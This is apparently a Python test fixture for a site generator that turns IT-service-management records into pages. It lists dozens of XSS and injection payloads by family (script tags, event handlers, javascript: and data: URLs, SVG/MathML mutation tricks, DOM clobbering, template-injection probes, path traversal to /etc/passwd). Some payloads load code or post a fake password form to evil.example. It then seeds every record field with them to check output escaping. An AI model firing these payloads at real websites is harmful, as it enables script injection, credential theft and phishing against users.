"""Ways to smuggle code into a page, by family; and an organisation that has one in every text (A152, A153, A155)."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.site.memory import article, change, entry, incident, make, problem, service

if TYPE_CHECKING:
    from itsm_as_code.domain.kinds.base import Record

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//evil.example/x.js",
    "file:///etc/passwd",
]

FAMILIES: dict[str, list[str]] = {
    "script tags": [
        "<script>alert(1)</script>",
        "<ScRiPt >alert(1)</sCrIpT>",
        "<script/src=//evil.example/x.js></script>",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "<<script>alert(1)//<</script>",
        "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea></style></noscript></template><script>alert(1)</script>",
    ],
    "event handlers": [
        "<img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<body onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a onmouseover=alert(1)>x</a>",
        "<x onpointerenter=alert(1)>x",
        "<img/src=`x`onerror=alert(1)>",
    ],
    "schemes in html": [f'<a href="{url}">x</a><form action="{url}"><button formaction="{url}">x' for url in SCHEMES],
    "schemes in links": [f"[x]({url})" for url in SCHEMES] + [f"[x](<{url}>)" for url in SCHEMES],
    "schemes in pictures": [f"![x]({url})" for url in SCHEMES],
    "schemes in references": [f"[x][r]\n\n[r]: {url}" for url in SCHEMES] + [f"<{url}>" for url in SCHEMES],
    "attribute break-out": [
        '[x](https://ok.example "\\" onmouseover=alert(1) \\"")',
        "[x](https://ok.example '\" autofocus onfocus=alert(1) x=\"')",
        '![" onerror=alert(1) x="](x.png)',
        '```"><script>alert(1)</script>\ncode\n```',
        '```x" onmouseover="alert(1)\ncode\n```',
        '" autofocus onfocus="alert(1)',
        "' onmouseover='alert(1)",
        '`" onclick="alert(1)`',
        '[x](other.md#"onmouseover="alert(1))',
        '## "><img src=x onerror=alert(1)>',
        '[^" onmouseover=alert(1)]\n\n[^" onmouseover=alert(1)]: x',
    ],
    "other namespaces": [
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><p title='</template><img src=x onerror=alert(1)>'>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--- --!><img src=x onerror=alert(1)>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version='1.0'?><img src=x onerror=alert(1)?>",
    ],
    "frames, bases, refreshes, styles": [
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
        "<base href='//evil.example/'>",
        "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<p style='background:url(//evil.example/x)'>x</p>",
        "<div style='position:fixed;inset:0'>over everything</div>",
    ],
    "forms and clobbering": [
        "<form action=//evil.example><input name=password><button>Sign in</button></form>",
        "<img name=getElementById><form id=__proto__><input id=attributes></form>",
        "<a id=defaultView><a id=defaultView name=x href=//evil.example>",
        "## getElementById\n\n## __proto__\n\n## constructor",
        "<a href='//evil.example' target=_blank>x</a>",
    ],
    "templates": [
        "{{ 7 * 7 }}",
        "{% include 'base.html' %}",
        "{{ site.__class__.__mro__ }}",
        "{# gone #}",
        "{{ ''.__class__.__base__.__subclasses__() }}",
        "{% raw %}<script>alert(1)</script>{% endraw %}",
    ],
    "tricks with characters": [
        "\u202egnp.exe\u202c",
        "a\u2066b\u2069c",
        "\u200bscript",
        "\u2028alert(1)\u2029",
        "＜script＞alert(1)＜/script＞",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "@/../../../etc/passwd",
        '"@/x" onmouseover="alert(1)',
    ],
}

ALL = [payload for family in FAMILIES.values() for payload in family]


def line(payload: str) -> str:
    """The payload as a field of one line takes it."""
    return " ".join(payload.split()).strip() or "x"


def infested(payloads: list[str]) -> list[Record]:
    """An organisation whose texts all say what `payloads` say, one record of each kind for each payload."""
    found: list[Record] = [
        make("team", "crew", name=line(payloads[0])[:300].strip(), description="\n\n".join(payloads))
    ]
    for number, payload in enumerate(payloads):
        short, tail = line(payload)[:300].strip(), f"{number:04}0"
        external = {"name": short, "contact": short}
        told = entry("2026-11-01T08:00:00Z", state="in_progress", reason=short, note=payload, public=payload,
                     impact="high", urgency="high", priority="P1") | {"by": external}  # fmt: skip
        found += [
            service(f"s{number}", name=short, description=payload, status_page={"shown": True, "group": short},
                    support={"phone": short, "url": "https://x.example/'onclick=alert(1)"}),
            article(f"a{number}", f"{payload}\n\nText after.\n\n* {payload}\n", title=short, summary=short,
                    cause=payload, symptoms=[short], environment=[short],
                    error_codes=[payload[:200] or "x"], services=[f"s{number}"]),
            incident(f"INC-20261101-{tail}", told, title=short, description=payload, workaround=payload,
                     service=f"s{number}", requester=external, category=short, subcategory=short,
                     resolution={"code": "fixed", "summary": payload},
                     post_incident_review={"summary": payload, "contributing_factors": [payload],
                                           "actions": [{"title": short, "owner": "team/crew"}]}),
            change(f"CHG-20261101-{tail}", title=short, reason=payload, service=f"s{number}",
                   plan={"implementation": payload, "backout": payload}, tasks=[{"title": short}]),
            problem(f"PRB-20261101-{tail}", title=short, workaround=payload, root_cause=payload, service=f"s{number}"),
            make("request-item", f"i{number}", title=short, description=payload, category=short, team="crew",
                 fulfilment_steps=[short], fields=[{"name": "x", "label": short, "help": payload, "choices": [short]}]),
        ]  # fmt: skip
    return found
